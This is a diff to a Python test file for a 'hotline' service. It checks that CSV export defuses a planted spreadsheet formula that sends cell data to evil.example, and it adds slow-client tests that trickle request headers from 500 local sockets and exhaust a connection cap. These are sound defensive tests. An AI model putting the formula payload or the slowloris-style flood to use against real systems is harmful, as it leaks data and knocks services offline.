@@ -3,14 +3,20 @@ slow clients a public port attracts (issue 11, findings 14 and 16)."""
 
 from __future__ import annotations
 
+import asyncio
+import contextlib
 import csv
 import html
 import io
+import os
 import re
+from collections.abc import AsyncIterator, Awaitable, Callable
 from dataclasses import replace
 from pathlib import Path
 
+import aiohttp
 import asyncpg
+import pytest
 from aiohttp.test_utils import TestClient
 
 from gateway.phones import normalize
@@ -22,6 +28,7 @@ from storage.tips import CATEGORIES
 from tests.console_helpers import sign_in
 from tests.test_cli import hotline
 from tests.test_console_uploads import upload
+from tests.test_faults import HOTLINE, free_port
 
 PLANTED = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
 AGENCY = replace(sample_agencies()[0], name=PLANTED, head_office_city="@SUM(1+1)", is_sample=False)
@@ -147,3 +154,118 @@ class TestCliExport:
         assert 0 == (await hotline(database_url, "registry", "import", str(path))).code
         row = cells((await hotline(database_url, "registry", "export")).stdout)[0]
         assert "'" + PLANTED == row["name"]
+
+
+Serve = Callable[..., Awaitable[int]]
+
+
+@pytest.fixture
+async def serve(database_url: str, tmp_path: Path) -> AsyncIterator[Serve]:
+    """Start `hotline serve` as a real process with extra settings; gives its port once ready."""
+    processes: list[asyncio.subprocess.Process] = []
+
+    async def start(**settings: str) -> int:
+        port = free_port()
+        env = {
+            **os.environ,
+            "DATABASE_URL": database_url,
+            "HOTLINE_SECRET": "deploy-secret-0123456789",
+            "HOTLINE_CALLBACK_TOKEN": "deploy-callback-token-0123456789",
+            "HOTLINE_WORKER": "off",
+            "HOTLINE_DATA_DIR": str(tmp_path),
+            "PORT": str(port),
+            "LOG_LEVEL": "warning",
+            **settings,
+        }
+        process = await asyncio.create_subprocess_exec(
+            HOTLINE, "serve", env=env, stdout=asyncio.subprocess.DEVNULL
+        )
+        processes.append(process)
+        async with aiohttp.ClientSession() as http:
+            for _ in range(150):
+                with contextlib.suppress(aiohttp.ClientError):
+                    async with http.get(f"http://127.0.0.1:{port}/healthz") as response:
+                        if response.status == 200:
+                            return port
+                await asyncio.sleep(0.1)
+        raise AssertionError("hotline serve did not start")
+
+    yield start
+    for process in processes:
+        process.terminate()
+        await process.wait()
+
+
+async def trickle(port: int, give_up_s: float) -> float | None:
+    """Send a request head a header line at a time, forever; seconds until the server closed the
+    connection, or None if it was still open after `give_up_s`."""
+    loop = asyncio.get_running_loop()
+    reader, writer = await asyncio.open_connection("127.0.0.1", port)
+    started = loop.time()
+
+    async def drip() -> None:
+        with contextlib.suppress(OSError):
+            writer.write(b"GET /healthz HTTP/1.1\r\nHost: hotline\r\n")
+            while True:
+                await asyncio.sleep(0.2)
+                writer.write(b"X-Slow: 1\r\n")
+                await writer.drain()
+
+    dripping = asyncio.create_task(drip())
+    try:
+        async with asyncio.timeout(give_up_s):
+            with contextlib.suppress(ConnectionResetError):
+                await reader.read()  # until the server closes
+        return loop.time() - started
+    except TimeoutError:
+        return None
+    finally:
+        dripping.cancel()
+        writer.close()
+
+
+async def get_healthz(port: int) -> int:
+    """A normal request's status."""
+    async with (
+        aiohttp.ClientSession() as http,
+        http.get(f"http://127.0.0.1:{port}/healthz") as response,
+    ):
+        return response.status
+
+
+class TestSlowClients:
+    async def test_trickled_heads_are_closed_after_the_header_timeout(self, serve: Serve) -> None:
+        """500 sockets trickling a request head are all closed about 1 s after they opened."""
+        port = await serve(HOTLINE_HEADER_TIMEOUT_S="1")
+        closed = await asyncio.gather(*(trickle(port, give_up_s=6) for _ in range(500)))
+        assert [] == [c for c in closed if c is None or not 0.5 <= c <= 4]
+
+    async def test_normal_request_succeeds_while_heads_trickle(self, serve: Serve) -> None:
+        """While 500 sockets trickle, an ordinary request is answered."""
+        port = await serve(HOTLINE_HEADER_TIMEOUT_S="2")
+        slow = [asyncio.create_task(trickle(port, give_up_s=6)) for _ in range(500)]
+        await asyncio.sleep(0.5)
+        status = await get_healthz(port)
+        await asyncio.gather(*slow)
+        assert 200 == status
+
+    async def test_connections_over_the_cap_get_503(self, serve: Serve) -> None:
+        """With the cap held by silent sockets, the next connection is told 503 and closed."""
+        port = await serve(HOTLINE_MAX_CONNECTIONS="20", HOTLINE_HEADER_TIMEOUT_S="30")
+        held = [await asyncio.open_connection("127.0.0.1", port) for _ in range(20)]
+        await asyncio.sleep(0.2)
+        reader, writer = await asyncio.open_connection("127.0.0.1", port)
+        answer = await asyncio.wait_for(reader.read(), timeout=5)
+        writer.close()
+        for _, held_writer in held:
+            held_writer.close()
+        assert answer.startswith(b"HTTP/1.1 503 ")
+
+    async def test_a_freed_slot_serves_again(self, serve: Serve) -> None:
+        """Once the silent sockets go, requests are served again."""
+        port = await serve(HOTLINE_MAX_CONNECTIONS="20", HOTLINE_HEADER_TIMEOUT_S="30")
+        held = [await asyncio.open_connection("127.0.0.1", port) for _ in range(20)]
+        for _, held_writer in held:
+            held_writer.close()
+        await asyncio.sleep(0.3)
+        assert 200 == await get_healthz(port)
